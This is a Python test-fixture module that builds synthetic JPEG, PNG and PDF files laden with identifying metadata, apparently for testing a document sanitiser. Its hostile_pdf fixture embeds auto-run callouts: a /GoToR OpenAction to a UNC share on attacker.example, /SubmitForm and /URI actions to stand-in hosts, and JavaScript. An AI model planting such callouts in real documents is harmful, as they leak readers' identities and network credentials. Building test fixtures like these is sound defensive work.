"""Small synthetic test files, made in the test run (plain colour blocks, no real photos)."""

from __future__ import annotations

import io

from PIL import Image, PngImagePlugin

GPS_IFD = 0x8825


def jpeg_with_gps(size: tuple[int, int] = (64, 48), orientation: int | None = None) -> bytes:
    image = Image.new("RGB", size, (180, 40, 40))
    exif = Image.Exif()
    exif[0x010F] = "TestCam"  # Make
    exif[0x0131] = "TestSoftware"
    exif[GPS_IFD] = {1: "N", 2: (40.0, 25.0, 1.0), 3: "W", 4: (3.0, 42.0, 2.0)}
    if orientation:
        exif[0x0112] = orientation
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Jane Reporter")
    info.add_text("Comment", "taken at home")
    out = io.BytesIO()
    Image.new("RGBA", (20, 10), (0, 0, 255, 128)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def pdf_with_author(javascript: bool = False) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": "Jane Reporter", "/Title": "my notes"})
    if javascript:
        from pypdf.generic import DictionaryObject, NameObject, TextStringObject

        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1);"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = action
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hostile_pdf() -> bytes:
    """A PDF with everything that identifies a reporter or makes the reader call out: a JPEG with
    GPS EXIF, an annotation signed with the author's name, open and page actions (/GoToR to a UNC
    path, /SubmitForm, /URI, JavaScript), an embedded file, XMP and /PieceInfo."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    jpeg = jpeg_with_gps((32, 24))
    image = pikepdf.Stream(pdf, jpeg)
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width, image.Height, image.BitsPerComponent = 32, 24, 8
    image.ColorSpace, image.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
    image.Metadata = pikepdf.Stream(pdf, b"<x:xmpmeta>Jane Reporter camera roll</x:xmpmeta>")
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    page.obj.Contents = pdf.make_stream(b"q 100 0 0 75 50 60 cm /Im0 Do Q")
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://tracker.example/open"))
    page.obj.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Text,
                    Rect=[10, 10, 40, 40],
                    T=pikepdf.String("Jane Reporter"),
                    Contents=pikepdf.String("note by Jane Reporter"),
                ),
                pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=uri),
            ]
        )
    )
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://collect.example/form"))
    page.obj.AA = pikepdf.Dictionary(O=submit)
    page.obj.PieceInfo = pikepdf.Dictionary(Illustrator=pikepdf.Dictionary(Private=pikepdf.String("Jane Reporter")))
    unc = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\attacker.example\\share\\x.pdf"), D=[0])
    pdf.Root.OpenAction = unc
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), js]))
    pdf.Root.Metadata = pikepdf.Stream(pdf, b"<x:xmpmeta>Jane Reporter</x:xmpmeta>")
    pdf.Root.PieceInfo = pikepdf.Dictionary(App=pikepdf.Dictionary(Private=pikepdf.String("Jane Reporter")))
    pdf.docinfo["/Author"] = "Jane Reporter"
    pdf.attachments["secret.txt"] = pikepdf.AttachedFileSpec(pdf, b"Jane Reporter lives at 1 Main St")
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()
